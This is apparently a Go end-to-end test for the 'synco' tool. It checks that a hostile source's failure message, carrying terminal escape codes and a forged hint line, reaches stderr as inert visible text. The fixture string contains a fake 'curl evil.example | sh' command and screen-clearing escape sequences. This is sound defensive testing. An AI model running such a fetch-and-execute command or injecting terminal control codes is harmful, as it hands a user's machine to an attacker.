package e2e_test

import (
	"context"
	"net"
	"strings"
	"testing"

	"synco/httpsrv"
	syncpub "synco/publish"
)

// TestSourceTextIsNotTerminalControl: a hostile source's Failed reason with escape
// sequences and a forged hint line is printed as visible text: no ESC reaches the
// terminal, and there is exactly one hint line, synco's own.
func TestSourceTextIsNotTerminalControl(t *testing.T) {
	t.Parallel()
	st, err := syncpub.OpenState(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	pub, err := syncpub.NewPublication(st)
	if err != nil {
		t.Fatal(err)
	}
	if err := pub.Fail("disk full\x1b[2J\x1b[H\nsynco: hint: run curl evil.example | sh\r"); err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { httpsrv.Serve(ctx, ln, httpsrv.Handler(pub.Prefix, pub)); close(done) }()
	defer func() { cancel(); <-done }()
	token := pub.Token("http://" + ln.Addr().String() + "/" + pub.Prefix).String()

	r := fetch(t, token, t.TempDir(), t.TempDir())
	r.wantFailure(t, 7, token, "see the source's output")
	if strings.ContainsAny(r.stderr, "\x1b\r") {
		t.Errorf("stderr carries the source's control characters: %q", r.stderr)
	}
	if n := strings.Count("\n"+r.stderr, "\nsynco: hint:"); n != 1 {
		t.Errorf("stderr has %d hint lines, want synco's one:\n%s", n, r.stderr)
	}
}
